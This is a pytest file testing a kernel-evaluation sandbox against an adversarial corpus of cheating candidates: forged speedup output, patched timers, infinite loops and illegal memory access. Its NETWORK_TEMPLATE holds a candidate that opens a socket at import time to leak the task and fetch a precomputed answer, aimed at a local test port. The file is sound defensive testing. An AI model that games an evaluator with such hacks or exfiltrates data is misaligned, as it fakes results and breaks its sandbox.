"""The evaluator against the adversarial corpus (tests/corpus/manifest.py): every hack gets one of
its acceptable verdicts, every honest control is OK, and a hostile candidate leaves nothing behind
(no forged text in our output, no connection out of the sandbox, a usable worker afterwards)."""

from __future__ import annotations

import importlib.util
import re
import socket
import sys
import time
from pathlib import Path

import pytest
import torch

from evaluator_worker.config import EvalConfig
from evaluator_worker.judge import evaluate


def _load_manifest():
    # tests/corpus is not a package (ruff and pytest leave it alone), so load the manifest by path.
    path = Path(__file__).parents[1] / "corpus" / "manifest.py"
    spec = importlib.util.spec_from_file_location("kernelmap_corpus_manifest", path)
    mod = importlib.util.module_from_spec(spec)
    # dataclasses resolves the module's annotations through sys.modules.
    sys.modules[spec.name] = mod
    spec.loader.exec_module(mod)
    return mod


manifest = _load_manifest()
CASES, BY_NAME = manifest.CASES, manifest.BY_NAME

HAS_CUDA = torch.cuda.is_available()
CPU_TIMEOUT_S = 20.0
GPU_TIMEOUT_S = 60.0  # a fresh CUDA context plus a cold Triton compile take seconds
FORGED = '"speedup_vs_eager": 150.0'

# The network hack needs the port of a socket this test opens, so it is written from here.
NETWORK_TEMPLATE = """\
# Hack: phone home at import time (exfiltrate the task, fetch a precomputed answer). Expected:
# STATIC_REJECT; with the gate off, no connection leaves the sandbox (OK or LOAD_ERROR).
import socket

import torch
import torch.nn as nn

_conn = socket.create_connection(("127.0.0.1", __PORT__), timeout=2)
_conn.sendall(b"kernelmap-corpus-leak")
_conn.close()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        e = torch.exp(x - x.amax(dim=-1, keepdim=True))
        return e / e.sum(dim=-1, keepdim=True)
"""


def _param(case):
    marks = []
    if case.gpu:
        marks = [pytest.mark.gpu, pytest.mark.skipif(not HAS_CUDA, reason="needs a CUDA GPU")]
    return pytest.param(case, id=case.name, marks=marks)


def _config(case) -> EvalConfig:
    timeout = case.timeout_s or (GPU_TIMEOUT_S if case.gpu else CPU_TIMEOUT_S)
    return EvalConfig(
        device="cuda" if case.gpu else "cpu", timeout_s=timeout, static_gate=case.gate
    )


def _candidate(case, tmp_path: Path, port: int | None = None) -> Path:
    """The candidate file of a case, generating it into tmp_path when the manifest has none."""
    if case.candidate_path is not None:
        return case.candidate_path
    out = tmp_path / f"{case.name}.py"
    if case.from_reference:
        out.write_text(re.sub(r"\bModel\b", "ModelNew", case.task_path.read_text()))
    elif case.template == "network":
        out.write_text(NETWORK_TEMPLATE.replace("__PORT__", str(port)))
    else:
        raise AssertionError(f"case {case.name} has no candidate and no way to build one")
    return out


def _is_triton(path: Path) -> bool:
    return "@triton.jit" in path.read_text()


def _check(case, res, cand: Path) -> None:
    """Assertions every case shares: an acceptable verdict, reasons for a non-OK one, and the
    timing evidence an honest control must carry."""
    verdict = res.verdict.value
    assert verdict in case.expected, (
        f"{case.name}: got {verdict}, expected one of {sorted(case.expected)}; "
        f"messages: {res.messages}"
    )
    if verdict != "OK":
        assert res.messages, f"{case.name}: verdict {verdict} came without a message"
    if verdict == "OK" and case.max_speedup is not None:
        assert res.speedup_vs_eager is None or res.speedup_vs_eager < case.max_speedup, (
            f"{case.name}: a patched timer yielded a fast OK ({res.speedup_vs_eager}x)"
        )
    if case.expected != {"OK"}:
        return
    assert res.correct
    if not case.gpu and _is_triton(cand):
        # Interpreted Triton time says nothing about the kernel: no speedup, and say why.
        assert res.speedup_vs_eager is None
        assert any("interpret" in m.lower() for m in res.messages), res.messages
    else:
        s = res.speedup_vs_eager
        assert isinstance(s, float) and s > 0, s
        if case.from_reference:
            # The reference against itself: a timing bias shows up here first.
            lo, hi = (0.97, 1.03) if case.gpu else (1 / 3, 3.0)
            assert lo <= s <= hi, f"reference-as-candidate speedup {s} outside [{lo}, {hi}]"


@pytest.mark.parametrize("case", [_param(c) for c in CASES if not c.dedicated])
def test_corpus_case(case, tmp_path):
    cand = _candidate(case, tmp_path)
    res = evaluate(str(case.task_path), str(cand), _config(case))
    _check(case, res, cand)


def test_forged_output_never_reaches_our_stdout(capfd):
    case = BY_NAME["forged_exit_nogate"]
    res = evaluate(str(case.task_path), str(case.candidate_path), _config(case))
    out, err = capfd.readouterr()
    assert FORGED not in out and FORGED not in err, "the candidate's output leaked into ours"
    _check(case, res, case.candidate_path)


@pytest.mark.parametrize("case", [_param(c) for c in CASES if c.template == "network"])
def test_network_stays_inside_the_sandbox(case, tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        cand = _candidate(case, tmp_path, port=port)
        res = evaluate(str(case.task_path), str(cand), _config(case))
        # The kernel completes a handshake without accept(), so any connection would be queued.
        server.settimeout(0.5)
        with pytest.raises(TimeoutError):
            conn, addr = server.accept()
            conn.close()
            pytest.fail(f"the candidate connected out of the sandbox from {addr}")
    _check(case, res, cand)


def _next_candidate_is_fine(case) -> None:
    good = BY_NAME["softmax_triton_gpu" if case.gpu else "softmax_triton"]
    res = evaluate(str(good.task_path), str(good.candidate_path), _config(good))
    assert res.verdict.value == "OK", (res.verdict, res.messages)


@pytest.mark.parametrize(
    "case", [_param(c) for c in CASES if c.name in ("infinite_loop", "infinite_loop_gpu")]
)
def test_infinite_loop_times_out_and_next_candidate_is_fine(case):
    t0 = time.monotonic()
    res = evaluate(str(case.task_path), str(case.candidate_path), _config(case))
    elapsed = time.monotonic() - t0
    _check(case, res, case.candidate_path)
    limit = case.timeout_s + 15
    assert elapsed < limit, f"evaluate took {elapsed:.1f}s for a {case.timeout_s}s timeout"
    _next_candidate_is_fine(case)


@pytest.mark.parametrize("case", [_param(BY_NAME["illegal_address"])])
def test_illegal_address_is_fatal_and_next_candidate_is_fine(case):
    res = evaluate(str(case.task_path), str(case.candidate_path), _config(case))
    _check(case, res, case.candidate_path)
    _next_candidate_is_fine(case)


def test_manifest_files_exist():
    for case in CASES:
        assert case.task_path.is_file(), case.task
        if case.candidate_path is not None:
            assert case.candidate_path.is_file(), case.candidate
        else:
            assert case.from_reference or case.template, case.name
